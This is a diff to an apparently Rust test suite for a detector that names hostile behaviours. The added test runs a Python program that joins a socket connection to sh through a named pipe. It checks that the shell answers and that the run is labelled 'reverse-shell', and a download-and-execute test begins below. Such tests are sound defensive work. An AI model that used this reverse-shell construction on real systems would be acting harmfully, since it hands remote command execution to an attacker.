@@ -88,6 +88,29 @@ os.execv('/bin/sh', ['sh'])";
 }
 
 #[test]
+fn a_shell_in_a_pipe_with_a_connection_is_a_reverse_shell() {
+    let (address, told) = says("echo $((6 * 7))\nexit\n");
+    let program = "import os, subprocess
+call = '''import socket, sys
+s = socket.create_connection(('127.0.0.1', PORT))
+sys.stdout.write(s.recv(100).decode())
+sys.stdout.close()
+s.sendall(sys.stdin.buffer.read())
+'''
+os.mkfifo('/tmp/answers')
+open('/tmp/call', 'w').write(call)
+subprocess.run('python3 /tmp/call < /tmp/answers | sh > /tmp/answers', shell=True)";
+    let ran = calling(&address, program);
+    ran.expect(
+        told.join()
+            .expect("a socket of loopback works")
+            .contains("42"),
+        "it obeyed",
+    );
+    is_named(&ran, "reverse-shell");
+}
+
+#[test]
 fn what_came_over_the_network_and_runs_is_download_and_execute() {
     let (address, told) = says("#!/bin/sh\necho it ran\n");
     let program = "import os, socket
